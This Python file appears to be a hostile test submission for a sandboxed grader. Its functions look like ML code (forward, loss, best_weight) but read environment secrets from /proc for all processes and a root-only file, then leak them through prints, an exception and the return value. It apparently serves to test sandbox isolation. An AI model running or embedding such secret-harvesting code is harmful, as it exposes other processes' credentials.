"""Read everything secret a worker might reach (its environment, the zygote's and the grader's
environment through /proc, a root-only file outside its folder) and send it back through every
channel: the returned value, prints, and an exception message."""
import os


def _loot():
    found = [repr(dict(os.environ))]
    for pid in ["self", "1", str(os.getppid())] + [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            with open(f"/proc/{pid}/environ", "rb") as f:
                found.append(f.read().decode(errors="replace"))
        except OSError:
            pass
    try:
        with open("__OUTSIDE__/root_only.txt") as f:
            found.append(f.read())
    except OSError:
        pass
    return "\n".join(found)


def forward(x, w):
    text = _loot()
    print(text)
    return x * w


def loss(x, y, w):
    raise ValueError(_loot())


def best_weight(x_data, y_data, weights):
    return _loot()
